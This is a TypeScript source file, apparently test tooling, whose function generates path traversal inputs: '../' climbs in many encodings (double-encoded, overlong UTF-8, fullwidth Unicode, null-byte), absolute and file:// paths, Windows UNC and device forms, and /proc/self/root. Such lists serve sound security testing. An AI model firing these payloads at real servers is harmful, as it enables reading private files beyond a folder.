/** A name that leads out, and the trick that it is one of. */
export interface PathForm {
  readonly kind: string;
  readonly form: string;
}

/**
 * Ways to write a path that leads out of a folder, as they stand in a request. OWASP's pages on path traversal and double encoding, RFC 3986
 * (dot segments, percent-encoding), RFC 3629 (overlong UTF-8 is not UTF-8), Microsoft's page on naming files (drives, devices, UNC).
 *
 * @param secret the absolute path of a file outside
 * @param names files to reach, relative to the folder above
 */
export function pathForms(secret: string, names: readonly string[]): PathForm[] {
  const climbs = [
    '../',
    '%2e%2e/',
    '%2e%2e%2f',
    '..%2f',
    '..%2F',
    '.%2e/',
    '%2e./',
    '%252e%252e%252f',
    '..%252f',
    '%25252e%25252e%25252f',
    '..\\',
    '..%5c',
    '%2e%2e%5c',
    '..%255c',
    '....//',
    '....%2f%2f',
    '..;/',
    '..%3b/',
    '.././',
    '..//',
    '..%00/',
    // Overlong and otherwise false UTF-8 for a dot, a slash, a backslash.
    '..%c0%af',
    '%c0%ae%c0%ae/',
    '%c0%ae%c0%ae%c0%af',
    '..%e0%80%af',
    '..%c1%9c',
    '..%f0%80%80%af',
    '%uff0e%uff0e%u2215',
    '..%u2216',
    // Letters that some systems fold into dots and slashes.
    '%ef%bc%8e%ef%bc%8e%ef%bc%8f',
    '..%e2%88%95',
    '..%ef%bc%bc',
  ];
  const climbing = climbs.flatMap((climb) =>
    names.flatMap((name) => [1, 3, 6].map((deep) => ({ kind: climb, form: `${climb.repeat(deep)}${name}` }))),
  );
  const whole = [
    secret,
    encodeURIComponent(secret),
    encodeURIComponent(encodeURIComponent(secret)),
    `/${secret}`,
    `//localhost${secret}`,
    `file://${secret}`,
    `file:%2f%2f${encodeURIComponent(secret)}`,
    `${encodeURIComponent(secret)}%00`,
    `${encodeURIComponent(secret)}%00.jpg`,
    `${encodeURIComponent(secret)}%0a`,
    `C:${secret}`,
    `C:${secret.replaceAll('/', '%5c')}`,
    `C%3a%5c${secret.slice(1).replaceAll('/', '%5c')}`,
    `%5c%5c%3f%5cC:${secret.replaceAll('/', '%5c')}`,
    `%5c%5clocalhost%5cC$${secret.replaceAll('/', '%5c')}`,
    `~/../..${encodeURIComponent(secret)}`,
    `%7e${encodeURIComponent(secret)}`,
    `$HOME/..${encodeURIComponent(secret)}`,
    `/proc/self/root${secret}`,
    encodeURIComponent(`/proc/self/root${secret}`),
    `${encodeURIComponent(secret)}::$DATA`,
    'CON',
    '.',
    '..',
    '%2e%2e',
    '%00',
    '%2f',
    '%5c',
  ];
  return [...climbing, ...whole.map((form) => ({ kind: form, form }))];
}
